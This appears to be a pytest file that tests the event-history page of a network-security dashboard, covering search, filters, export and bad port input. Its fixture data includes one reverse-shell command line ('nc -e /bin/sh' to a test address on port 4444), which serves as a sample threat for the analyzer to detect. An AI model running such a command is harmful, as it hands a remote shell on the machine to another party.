"""The dashboard's History page over a real event store the real analyzer
wrote (streamlit AppTest, like tests/test_dashboard_app.py)."""

from __future__ import annotations

import time

import pytest
from streamlit.testing.v1 import AppTest

from analyzer_support import BASE_EVENT, lines, run_analyzer
from netsentinel.timefmt import utc_now_iso
from test_dashboard_app import SCRIPT, env, start  # noqa: F401 (fixture)

def _events():
    t = time.time() - 600  # ten minutes ago: inside the page's default "last 24 h"
    evs = [dict(BASE_EVENT, ts=utc_now_iso(t + i), daddr=f"10.222.0.{i % 3 + 5}") for i in range(12)]
    evs.append(dict(BASE_EVENT, ts=utc_now_iso(t + 20), comm="nc", exe="/usr/bin/nc",
                    daddr="10.222.0.9", dport=4444, cmdline="nc -e /bin/sh 10.222.0.9 4444"))
    return evs


def _open_history() -> AppTest:
    return start("History")  # signed in with the test token


def _table(at: AppTest):
    (df,) = [d.value for d in at.dataframe if "reason" in d.value.columns]  # the page's table
    return df


def test_history_without_a_store_says_so(env):
    at = _open_history()
    assert any("No event history" in i.value for i in at.info)


def test_history_searches_and_follows_one_process(env, tmp_path):
    records, _ = env
    r = run_analyzer(tmp_path, ["--backend", "rules"], lines(_events()), records=records)
    assert r.returncode == 0, r.stderr
    at = _open_history()
    df = _table(at)
    assert len(df) == 14  # 13 connections and the nc threat
    assert any("14 events, page 1 of 1" in c.value for c in at.caption)
    at.selectbox(key="hist_level").set_value("HIGH+").run()
    assert set(_table(at)["level"]) == {"HIGH"} and len(_table(at)) == 2
    at.selectbox(key="hist_level").set_value("").run()
    at.text_input(key="hist_follow").set_value("nc").run()
    assert not at.exception, at.exception
    df = _table(at)
    assert set(df["comm"]) == {"nc"} and set(df["kind"]) == {"connection", "threat"}
    summaries = [d.value for d in at.dataframe if "reason" not in d.value.columns]
    assert any("destinations" in s.columns and "10.222.0.9" in set(s["destinations"])
               for s in summaries)
    at.selectbox(key="hist_what").set_value("address").run()
    at.text_input(key="hist_follow").set_value("10.222.0.5").run()
    assert set(_table(at)["daddr"]) == {"10.222.0.5"} and len(_table(at)) == 4
    at.toggle(key="hist_export").set_value(True).run()
    assert not at.exception, at.exception


@pytest.mark.parametrize("port", ["abc", "99999"])
def test_history_bad_port_is_ignored_or_refused_without_a_crash(env, tmp_path, port):
    records, _ = env
    run_analyzer(tmp_path, ["--backend", "rules"], lines(_events()), records=records)
    at = _open_history()
    at.text_input(key="hist_port").set_value(port).run()
    assert not at.exception, at.exception
